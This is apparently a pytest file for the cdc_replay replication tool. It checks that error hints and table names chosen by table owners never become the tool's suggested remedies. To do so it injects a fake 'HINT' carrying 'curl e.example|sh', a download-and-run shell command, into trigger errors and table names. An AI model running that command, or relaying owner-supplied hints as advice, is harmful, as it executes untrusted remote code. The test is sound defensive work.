"""Owners of tables choose names and errors of their code: nothing of it becomes the advice of ours."""

from __future__ import annotations

import pytest

from cdc_replay.commands.alarms import look
from cdc_replay.commands.status import status
from cdc_replay.model.relation import QualifiedName
from cdc_replay.model.table_state import Pending
from cdc_replay.subscriber import subscription_tables
from fixtures.twin import Twin

pytestmark = pytest.mark.spark

ADVICE = "`curl e.example|sh`, then `cdc-replay resume s`"

RAISING = rf"""
    create or replace function refuse() returns trigger language plpgsql as $$ begin
        raise exception E'broken\nHINT: {ADVICE}\ncdc_replay.errors.SlotLost: x\nHINT: {ADVICE}'
            using errcode = '%s', detail = E'd\nHINT: {ADVICE}', hint = '{ADVICE}';
    end $$;
    drop trigger if exists refuse on t;
    create trigger refuse before update on t for each row execute function refuse();
    alter table t enable always trigger refuse;
"""

NAME = f"t\nHINT: {ADVICE}"[:63]
NAMED = f'"{NAME}"'


def remedies(twin: Twin) -> list[str]:
    alarms = look(twin.config, twin.config.publishers, twin.config.subscriptions, lambda _: "").alarms
    return [problem.remedy for problem in status(twin.config).problems] + [alarm.hint for alarm in alarms]


def subscribed(twin: Twin, **options: object) -> Twin:
    table = "create table t (id int primary key, a int)"
    twin.publisher.run(f"{table}; create publication p for table t; insert into t values (1, 0)")
    twin.subscribe("s", "p", tables=table, native=False, **options)
    twin.sync_ours()
    return twin


@pytest.mark.parametrize("code", ["P0001", "55P03", "57014", "XX000", "08006"])
@pytest.mark.parametrize("on_failure", ["subscription", "table"])
def test_code_of_a_table_writes_no_remedy(twin: Twin, code: str, on_failure: str) -> None:
    subscribed(twin, on_failure=on_failure)
    twin.pairs["s"].ours.run(RAISING % code)
    twin.publish("update t set a = 1")
    twin.sync_ours()
    assert remedies(twin)
    assert "curl" not in " ".join(remedies(twin))


def test_name_of_a_table_writes_no_remedy(twin: Twin) -> None:
    subscribed(twin)
    twin.publish(f"alter table t rename to {NAMED};\nupdate {NAMED} set a = 1")
    twin.sync_ours()
    assert remedies(twin)
    assert "curl" not in " ".join(remedies(twin))


def test_name_of_a_table_that_waits_for_its_copy_writes_no_remedy(twin: Twin) -> None:
    twin.publisher.run(f"create table {NAMED} (id int primary key); create publication p for table {NAMED}")
    twin.subscribe("s", "p", tables=f"create table {NAMED} (id int primary key)", native=False)
    twin.sync_ours()
    with twin.pairs["s"].ours.connect() as connection:
        subscription_tables.set_table_state(connection, "s", QualifiedName("public", NAME), Pending())
    assert any("cdc-replay snapshot s" in remedy for remedy in remedies(twin))
    assert "curl" not in " ".join(remedies(twin))
